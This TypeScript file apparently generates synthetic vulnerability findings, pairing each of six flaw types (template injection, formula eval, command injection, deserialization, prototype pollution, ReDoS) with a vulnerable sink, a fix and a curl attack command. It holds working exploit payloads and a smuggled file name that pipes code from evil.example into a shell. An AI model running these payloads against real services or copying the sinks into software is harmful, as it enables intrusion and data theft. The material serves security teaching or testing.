import type { Flaw } from './flaw.ts';

/** Input that is run, or that keeps the process from running anything else. */
export const flawsOfExecution = {
  render: {
    type: 'RCE',
    cwe: 'CWE-1336',
    ratings: ['platformTakeover', 'userTakeover', 'adminTakeover'],
    file: 'service',
    titles: [
      (s) => `Server-side template injection in ${s.one} texts`,
      (s) => `RCE via Handlebars template stored with ${s.aOne}`,
    ],
    texts: [
      (s) =>
        `Texts of ${s.many} are compiled as templates with access to prototypes (\`allowProtoMethodsByDefault: true\`). \`{{#with "s" as |string|}}…{{/with}}\` reaches \`Function\` and thereby the shell of the API container.`,
      (s) =>
        `\`ejs.render(text, data)\` runs whatever stands between \`<%\` and \`%>\`. The text is editable by ${s.by}.`,
    ],
    sink: () => 'return ejs.render(template.text, { ...data });',
    fix: () => 'return mustache.render(template.text, data);',
    attack: (s) =>
      `curl -X PATCH -H "Authorization: Bearer $TOKEN" -d '{"text":"<%= process.mainModule.require(\\"child_process\\").execSync(\\"id\\") %>"}' https://shop.example.com${s.route}/10021`,
  },
  formula: {
    type: 'RCE',
    cwe: 'CWE-95',
    ratings: ['platformTakeover', 'userTakeover', 'adminTakeover'],
    file: 'service',
    titles: [
      (s) => `RCE via evaluated formula of ${s.aOne}`,
      (s) => `\`new Function()\` executes conditions entered for ${s.many}`,
    ],
    texts: [
      () =>
        `Conditions such as \`total > 100 && country == 'CH'\` are turned into code with \`new Function('ctx', 'with (ctx) { return ' + formula + ' }')\`. The deny list (\`require\`, \`process\`) is beaten by \`constructor.constructor('return this')()\`.`,
      () =>
        'The formula runs in `vm.runInNewContext`, which is no security boundary: `this.constructor.constructor` leaves the sandbox in one step.',
    ],
    sink: () => `return new Function('ctx', \`with (ctx) { return \${formula} }\`)(context);`,
    fix: () => 'return evaluate(parseExpression(formula), context);',
    attack: (s) =>
      `curl -X POST -H "Authorization: Bearer $TOKEN" -d '{"formula":"constructor.constructor(\\"return process\\")().env"}' https://shop.example.com${s.route}/preview`,
  },
  convert: {
    type: 'RCE',
    cwe: 'CWE-78',
    ratings: ['userTakeover', 'platformTakeover', 'anonymousTakeover'],
    file: 'job',
    titles: [
      (s) => `OS command injection when converting ${s.many}`,
      (s) => `RCE via file name passed to a shell in the ${s.one} job`,
    ],
    texts: [
      (s) =>
        `Documents are converted with \`exec('soffice --convert-to pdf ' + name)\`, which starts a shell. The original file name is kept; \`a"; curl evil.example | sh; ".docx\` is a valid one. Affects every ${s.one} with an attachment.`,
      () =>
        'Arguments for ImageMagick are joined with spaces and handed to `child_process.exec`. Quoting is done by surrounding them with double quotes, inside which `$(…)` and backticks (`` ` ``) are still expanded.',
    ],
    sink: () => `exec(\`convert "\${source}" -resize \${width} "\${target}"\`);`,
    fix: () => "execFile('convert', ['--', source, '-resize', String(width), target]);",
    attack: (s) =>
      `curl -F 'file=@x.png;filename="$(touch /tmp/pwned).png"' -H "Authorization: Bearer $TOKEN" https://shop.example.com${s.route}`,
  },
  deserialize: {
    type: 'RCE',
    cwe: 'CWE-502',
    ratings: ['anonymousTakeover', 'userTakeover'],
    file: 'service',
    titles: [(s) => `Unsafe deserialization of ${s.many}`, (s) => `RCE via \`node-serialize\` payload in ${s.aOne}`],
    texts: [
      (s) =>
        `The state of ${s.aOne} travels through the browser as a cookie and is restored with \`unserialize()\`. Functions in it, \`_$$ND_FUNC$$_function(){…}()\`, are called while parsing.`,
      () =>
        'YAML is loaded with `yaml.load(text, { schema: DEFAULT_FULL_SCHEMA })`, which constructs JavaScript functions from `!!js/function` tags.',
    ],
    sink: () => 'const state = unserialize(Buffer.from(cookie, "base64").toString());',
    fix: () => 'const state = stateSchema.parse(JSON.parse(await verify(cookie)));',
    attack: (s) =>
      `curl -H "Cookie: state=$(printf '{"x":"_$$ND_FUNC$$_function(){require(\\"child_process\\").exec(\\"id\\")}()"}' | base64 -w0)" https://shop.example.com${s.route}`,
  },
  merge: {
    type: 'RCE',
    cwe: 'CWE-1321',
    ratings: ['anonymousTakeover', 'userTakeover'],
    file: 'service',
    titles: [
      (s) => `Prototype pollution when merging ${s.many}`,
      (s) => `\`__proto__\` in ${s.aOne} changes the behaviour of the whole process`,
    ],
    texts: [
      (s) =>
        `\`deepMerge(defaults, body)\` recurses into \`__proto__\`. Setting \`{"__proto__":{"isAdmin":true}}\` on one ${s.one} makes \`account.isAdmin\` true for *every* later request until the container restarts.`,
      () =>
        'With `{"constructor":{"prototype":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}}` the next `child_process.fork` runs code of the attacker.',
    ],
    sink: () =>
      'for (const key in source) target[key] = isObject(source[key]) ? deepMerge(target[key], source[key]) : source[key];',
    fix: () => 'return structuredClone({ ...defaults, ...pick(body, editableFields) });',
    attack: (s) =>
      `curl -X PATCH -H "Authorization: Bearer $TOKEN" -d '{"__proto__":{"isAdmin":true}}' https://shop.example.com${s.route}/current`,
  },
  pattern: {
    type: 'RCE',
    cwe: 'CWE-1333',
    ratings: ['stall'],
    file: 'service',
    titles: [
      (s) => `ReDoS: user-defined pattern blocks the event loop for ${s.many}`,
      (s) => `Catastrophic backtracking in the validation of ${s.many}`,
    ],
    texts: [
      (s) =>
        `\`new RegExp(rule)\` takes its pattern from the ${s.one}. \`(a+)+$\` against thirty characters keeps the process busy for minutes, for all customers.`,
      () =>
        'The address check `/^([a-zA-Z0-9_.-]+)*@/` backtracks exponentially on `aaaaaaaaaaaaaaaaaaaaaaaaaaaa!`. One request occupies one core until the container is killed.',
    ],
    sink: () => 'return new RegExp(rule).test(input);',
    fix: () => 'return new RE2(rule).test(input);',
    attack: (s) =>
      `curl -X POST -H "Authorization: Bearer $TOKEN" -d '{"rule":"(a+)+$","input":"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!"}' https://shop.example.com${s.route}/test`,
  },
} as const satisfies Record<string, Flaw>;
